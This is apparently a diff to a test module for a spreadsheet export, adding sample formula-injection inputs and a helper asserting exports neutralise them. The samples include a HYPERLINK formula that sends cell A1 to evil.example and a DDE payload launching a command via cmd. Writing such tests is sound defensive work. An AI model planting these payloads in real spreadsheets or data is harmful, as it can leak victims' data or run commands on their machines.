@@ -342,3 +342,42 @@ def hostile(
             row(below, f'<c r="{column_letter(width)}{below}"><f>1+1</f><v>2</v></c>')
         ),
     }
+
+
+# Stored texts a spreadsheet would take for formulas (the 问卷统计表 leak of issue 12, and kin).
+FORMULA_TEXTS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+)
+
+
+def illegal_texts(db) -> tuple[str, ...]:
+    """Texts with characters XML cannot hold, as far as this database stores them: PostgreSQL
+    refuses NUL, and no driver stores a lone surrogate (the writer's own tests cover those)."""
+    texts = ("坏\ufffe字",)
+    return texts if db.get_bind().dialect.name == "postgresql" else ("空\x00字", *texts)
+
+
+def assert_safe_export(data: bytes, texts) -> None:
+    """No formula cell anywhere, formula-like text quoted, nothing XML cannot hold, and every
+    given text kept (without its illegal characters) in some cell."""
+    import openpyxl
+
+    from workbench.core.spreadsheet import ILLEGAL_CHARACTERS, needs_quote
+
+    values = []
+    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
+        for row in sheet.iter_rows():
+            for found in row:
+                where = f"{sheet.title}!{found.coordinate}"
+                assert found.data_type != "f", (where, found.value)
+                if isinstance(found.value, str):
+                    assert not ILLEGAL_CHARACTERS.search(found.value), where
+                    assert found.quotePrefix or not needs_quote(found.value), (where, found.value)
+                    values.append(found.value)
+    for text in texts:
+        kept = ILLEGAL_CHARACTERS.sub("", text)
+        assert any(kept in value for value in values), kept
